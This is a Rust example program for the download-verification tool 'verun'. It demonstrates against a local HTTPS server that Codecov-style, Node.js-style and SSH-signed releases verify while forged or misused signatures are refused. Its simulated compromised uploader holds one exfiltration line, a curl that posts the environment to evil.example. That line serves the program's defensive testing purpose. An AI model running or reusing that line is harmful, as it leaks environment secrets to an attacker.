//! verun against what real publishers sign with: OpenPGP and SSH. No internet needed.
//!
//! `cargo run --example publishers` builds verun, makes the publishers' keys with the
//! publishers' own tools (GnuPG's `gpg`, OpenSSH's `ssh-keygen`; both needed, and the demo
//! says which is missing), serves three release layouts over HTTPS on 127.0.0.1, and runs:
//!
//! 1. **Codecov**: an RSA primary key signs `codecov.SHA256SUM` (`gpg --detach-sign`,
//!    binary `.sig`); the certificate is fetched from the download host and counts only
//!    pinned by `--fingerprint` (without it: 64), so a host that serves its own certificate,
//!    list and signature is refused (77);
//! 2. **Node.js**: a keyring of several releasers, one signing through an Ed25519 subkey,
//!    and a cleartext-signed `SHASUMS256.txt.asc` (`gpg --clearsign`); a list signed by
//!    someone outside the keyring is refused (77);
//! 3. **an SSH-signed install script** (`ssh-keygen -Y sign -n file`, `install.sh.sig`) run
//!    under an inline `ssh-ed25519` key; a signature made for git is refused (77).
//!
//! As in `examples/quickstart.rs`, every command is printed as one shell line with the
//! `VERUN_HOME` and `--cacert` it really uses and is executed exactly as printed (`sh -c
//! LINE`); `-- --serve` keeps the server up until Enter is pressed. `tests/publishers.rs`
//! runs the printed lines. The keys live in a temporary directory, removed at the end.

#[path = "../tests/common/mod.rs"]
pub(crate) mod common;

use std::io::Write;
use std::path::Path;
use std::process::{Command, ExitCode};

use common::demo::{build_verun, sh_quote};
use common::server::{Reply, TestServer};
use common::sha256_hex;
use common::signers::{Gpg, SshKeyPair, ssh_keygen_available, tool_available};

const INSTALLER: &str = r#"#!/bin/sh
# An installer signed with the publisher's SSH key.
echo "  [payload] hello from an SSH-signed install script; my arguments: $*"
"#;

/// One step of the demo: a title, the shell line shown and run, the exit status expected.
pub struct Step {
    /// What the step shows.
    pub title: &'static str,
    /// The command, as printed and as run (`sh -c`).
    pub line: String,
    /// The exit status the step demonstrates.
    pub expect: i32,
}

/// The served files, the state directory, the publishers' keys and the steps; the server
/// lives as long as this.
pub struct Demo {
    /// Serves the three layouts and their tampered copies.
    pub server: TestServer,
    /// `VERUN_HOME` of every step, the GnuPG home, the downloads.
    pub home: tempfile::TempDir,
    /// The steps, in order (only those whose tools are installed).
    pub steps: Vec<Step>,
    /// The tools that are not installed, and what they are needed for.
    pub missing: Vec<String>,
    gpg: Option<Gpg>,
}

impl Drop for Demo {
    fn drop(&mut self) {
        // The agent gpg started for signing would outlive the demo.
        if let Some(g) = &self.gpg {
            g.stop_agent();
        }
    }
}

/// Make the keys, serve the layouts and describe the steps for `verun`.
pub fn set_up(verun: &Path) -> Demo {
    let home = tempfile::tempdir().expect("temp dir");
    let server = TestServer::https();
    let ca = server.ca_pem_path().display().to_string();
    let dir = home.path().to_path_buf();
    let line = |args: &[&str]| {
        let mut words = vec![
            format!(
                "VERUN_HOME={}",
                sh_quote(&dir.join("verun").display().to_string())
            ),
            sh_quote(&verun.display().to_string()),
        ];
        // --cacert goes last, but before the payload's own arguments (`-- ARGS`).
        let split = args.iter().position(|a| *a == "--").unwrap_or(args.len());
        words.extend(args[..split].iter().map(|a| sh_quote(a)));
        words.push("--cacert".into());
        words.push(sh_quote(&ca));
        words.extend(args[split..].iter().map(|a| sh_quote(a)));
        words.join(" ")
    };
    let out = |name: &str| dir.join("downloads").join(name).display().to_string();
    std::fs::create_dir_all(dir.join("downloads")).expect("downloads directory");
    let mut steps = Vec::new();
    let mut missing = Vec::new();

    let gpg = if tool_available("gpg", &["--version"]) {
        Gpg::fresh(&dir.join("gnupg"))
    } else {
        None
    };
    match &gpg {
        None => missing.push(
            "gpg (GnuPG; Debian: apt-get install gnupg): needed for the Codecov and Node.js shapes"
                .to_string(),
        ),
        Some(g) => {
            eprintln!(
                "publishers: making the publishers' OpenPGP keys with gpg (RSA 3072 takes a few seconds)"
            );
            // --- Codecov ---
            let codecov = g.generate(
                "Codecov Uploader (Codecov Uploader Verification Key) <security@codecov.io>",
                "rsa3072",
                "sign",
                None,
            );
            g.add_subkey(&codecov, "cv25519", "encr", None);
            let attacker = g.generate(
                "Codecov Uploader <security@codecov.io.evil>",
                "ed25519",
                "sign",
                None,
            );
            let uploader = b"#!/bin/sh\necho pretend codecov uploader\n".to_vec();
            let evil = b"#!/bin/sh\ncurl -sd \"$(env)\" https://evil.example/\n".to_vec();
            for (prefix, payload, signer) in [
                ("", &uploader, &codecov),
                ("/compromised", &evil, &attacker),
            ] {
                let list = format!("{}  codecov\n", sha256_hex(payload));
                server.route(format!("{prefix}/codecov"), Reply::bytes(payload));
                server.route(format!("{prefix}/codecov.SHA256SUM"), Reply::bytes(&list));
                server.route(
                    format!("{prefix}/codecov.SHA256SUM.sig"),
                    Reply::bytes(g.detach_sign(signer, list.as_bytes(), false, None)),
                );
                server.route(
                    format!("{prefix}/pgp_keys.asc"),
                    Reply::bytes(g.export(&[signer], true)),
                );
            }
            let codecov_args = |prefix: &str, pin: bool| {
                let mut a = vec![
                    "fetch".to_string(),
                    server.url(&format!("{prefix}/codecov")),
                    "-o".into(),
                    out("codecov"),
                    "--checksums".into(),
                    server.url(&format!("{prefix}/codecov.SHA256SUM")),
                    "--checksums-sig".into(),
                    server.url(&format!("{prefix}/codecov.SHA256SUM.sig")),
                    "--key".into(),
                    server.url(&format!("{prefix}/pgp_keys.asc")),
                ];
                if pin {
                    a.extend(["--fingerprint".to_string(), codecov.clone()]);
                }
                a
            };
            let as_line = |a: Vec<String>| line(&a.iter().map(String::as_str).collect::<Vec<_>>());
            steps.push(Step {
                title: "Codecov: SHA256SUM signed by an RSA key; the certificate from the host, pinned by fingerprint",
                line: as_line(codecov_args("", true)),
                expect: 0,
            });
            steps.push(Step {
                title: "Codecov: the same certificate URL without --fingerprint (what Codecov's own wrapper does) counts for nothing",
                line: as_line(codecov_args("", false)),
                expect: 64,
            });
            steps.push(Step {
                title: "Codecov: a compromised host serves its own uploader, list, signature AND certificate",
                line: as_line(codecov_args("/compromised", true)),
                expect: 77,
            });

            // --- Node.js ---
            let alice = g.generate(
                "Alice Releaser <alice@nodejs.example>",
                "ed25519",
                "sign",
                None,
            );
            let bob = g.generate("Bob Releaser <bob@nodejs.example>", "ed25519", "cert", None);
            let bob_sub = g.add_subkey(&bob, "ed25519", "sign", None);
            let mallory = g.generate("Mallory <mallory@nodejs.example>", "ed25519", "sign", None);
            let keyring = dir.join("nodejs-releasers.gpg");
            std::fs::write(&keyring, g.export(&[&alice, &bob], false)).expect("write the keyring");
            let tarball = b"pretend node-v22.0.0-linux-x64.tar.xz\n".to_vec();
            let evil = b"pretend node with a backdoor\n".to_vec();
            for (prefix, payload, signer) in
                [("/dist", &tarball, &bob_sub), ("/mirror", &evil, &mallory)]
            {
                let list = format!(
                    "{}  node-v22.0.0-darwin-arm64.tar.gz\n{}  node-v22.0.0-linux-x64.tar.xz\n",
                    sha256_hex(b"pretend darwin build\n"),
                    sha256_hex(payload)
                );
                server.route(
                    format!("{prefix}/v22.0.0/node-v22.0.0-linux-x64.tar.xz"),
                    Reply::bytes(payload),
                );
                server.route(
                    format!("{prefix}/v22.0.0/SHASUMS256.txt.asc"),
                    Reply::bytes(g.clearsign(signer, list.as_bytes(), None)),
                );
            }
            let node_args = |prefix: &str| {
                line(&[
                    "fetch",
                    &server.url(&format!("{prefix}/v22.0.0/node-v22.0.0-linux-x64.tar.xz")),
                    "-o",
                    &out("node-v22.0.0-linux-x64.tar.xz"),
                    "--checksums",
                    &server.url(&format!("{prefix}/v22.0.0/SHASUMS256.txt.asc")),
                    "--key",
                    &keyring.display().to_string(),
                ])
            };
            steps.push(Step {
                title: "Node.js: a cleartext-signed SHASUMS256.txt.asc, signed by one of the releasers (through a subkey)",
                line: node_args("/dist"),
                expect: 0,
            });
            steps.push(Step {
                title: "Node.js: a mirror serves a list signed by someone who is not in the releasers' keyring",
                line: node_args("/mirror"),
                expect: 77,
            });
        }
    }

    if ssh_keygen_available() {
        let key = SshKeyPair::generate(
            &dir.join("ssh"),
            "id_ed25519",
            "ed25519",
            "release@example.com",
        );
        for (prefix, namespace) in [("", "file"), ("/git-signed", "git")] {
            server.route(format!("{prefix}/install.sh"), Reply::bytes(INSTALLER));
            server.route(
                format!("{prefix}/install.sh.sig"),
                Reply::bytes(key.sign(namespace, INSTALLER.as_bytes())),
            );
        }
        steps.push(Step {
            title: "SSH: an install script signed with `ssh-keygen -Y sign -n file`, run under the inline public key",
            line: line(&["run", &server.url("/install.sh"), "--key", &key.public, "--", "--demo"]),
            expect: 0,
        });
        steps.push(Step {
            title: "SSH: a genuine signature by the same key, but made for git (namespace git), does not vouch for a download",
            line: line(&["run", &server.url("/git-signed/install.sh"), "--key", &key.public]),
            expect: 77,
        });
    } else {
        missing.push(
            "ssh-keygen (OpenSSH; Debian: apt-get install openssh-client): needed for the SSH shape"
                .to_string(),
        );
    }
    Demo {
        server,
        home,
        steps,
        missing,
        gpg,
    }
}

/// `sh -c LINE`: the step exactly as printed. Returns its exit status (-1: killed).
pub fn run_line(line: &str) -> i32 {
    Command::new("sh")
        .args(["-c", line])
        .status()
        .map(|s| s.code().unwrap_or(-1))
        .unwrap_or(-1)
}

fn main() -> ExitCode {
    let serve = std::env::args().any(|a| a == "--serve");
    let verun = match build_verun("publishers") {
        Ok(p) => p,
        Err(e) => {
            eprintln!("publishers: {e}");
            return ExitCode::FAILURE;
        }
    };
    let demo = set_up(&verun);
    for m in &demo.missing {
        println!("publishers: NOT INSTALLED: {m}; those steps are skipped");
    }
    let mut ok = !demo.steps.is_empty();
    for step in &demo.steps {
        println!("\n== {}\n$ {}", step.title, step.line);
        let _ = std::io::stdout().flush();
        let code = run_line(&step.line);
        let meaning = match code {
            64 => " (64 = usage error: nothing was downloaded)",
            77 => " (77 = refused: nothing ran, nothing was saved)",
            _ => "",
        };
        println!("-> exit status {code}{meaning}");
        ok &= code == step.expect;
    }
    println!(
        "\npublishers: {}",
        if !ok {
            "UNEXPECTED RESULT (see above)"
        } else if demo.missing.is_empty() {
            "every genuine release verified, and every forged or misused signature was refused"
        } else {
            "the steps that ran gave the expected results, but some were skipped (see above)"
        }
    );
    if serve {
        println!(
            "publishers: serving on {} until you press Enter: the commands above work as printed",
            demo.server.base_url()
        );
        let mut line = String::new();
        let _ = std::io::stdin().read_line(&mut line);
    } else {
        println!(
            "publishers: the server stops now; `cargo run --example publishers -- --serve` keeps it up to try the commands"
        );
    }
    if ok && demo.missing.is_empty() {
        ExitCode::SUCCESS
    } else {
        ExitCode::FAILURE
    }
}
